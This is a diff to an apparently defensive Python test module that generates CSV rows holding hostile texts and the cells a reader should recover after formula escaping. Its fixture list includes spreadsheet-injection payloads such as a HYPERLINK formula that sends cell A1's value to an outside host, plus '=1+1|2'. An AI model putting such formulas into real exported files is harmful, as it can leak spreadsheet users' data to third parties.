@@ -1,4 +1,4 @@
-"""Rows with hostile texts in every place that holds text, and what every reader of CSV has to find of them."""
+"""Rows with hostile text in every text field, and the cells that every CSV reader should find."""
 
 import re
 from collections.abc import Mapping
@@ -30,18 +30,18 @@ TEXTS: Final = (
     *('=HYPERLINK("http://example.org/?x="&A1,"x")', "a; \u3000@x", "NA", "null", "NaN", "true", "1", "1e5", "|", "\\"),
     *("=1+1|2", '"', "a\u200b=b", "Genève 日本 العربية"),
 )
-"""What spreadsheets work out, and what readers of CSV take for something else than text."""
+"""Formulas, and texts that CSV readers take for other values."""
 
 
 def hostile_rows(cls: type) -> list[Any]:
-    """Give as many rows as there are hostile texts, each of which comes to stand in every place."""
+    """Return as many rows as there are hostile texts; each text is in every field of some row."""
     document = ROWS[cls] | ({"eventUid": "=1+1"} if "eventUid" in ROWS[cls] else {"uid": "=1+1"})
     starts = range(len(TEXTS))
     return [from_json(cls, with_texts(cls, document, cycle(TEXTS[at:] + TEXTS[:at]))) for at in starts]
 
 
-def cells_to_find(cls: type, rows: list[Any]) -> dict[str, list[str]]:
-    """Say what the cells of a table hold, by another way than the writer's: apostrophes are taken away again."""
+def expected_cells(cls: type, rows: list[Any]) -> dict[str, list[str]]:
+    """Return the expected cells of a table without apostrophes, independently of the writer."""
     return {column.name: [*map(_cell, column.values(rows))] for column in columns_of(cls)}
 
 
@@ -59,6 +59,6 @@ def _cell(value: Any) -> str:
             return str(value)
 
 
-def as_they_were(cells: Mapping[str, list[str]]) -> dict[str, list[str]]:
-    """Take away the apostrophes that the writer put before what might be a formula, as docs/how-to/tables.md says."""
+def without_escapes(cells: Mapping[str, list[str]]) -> dict[str, list[str]]:
+    """Remove the apostrophes before formulas, as docs/how-to/tables.md shows."""
     return {name: [re.sub(r"(^|[,;\t\r\n])'", r"\1", each) for each in column] for name, column in cells.items()}
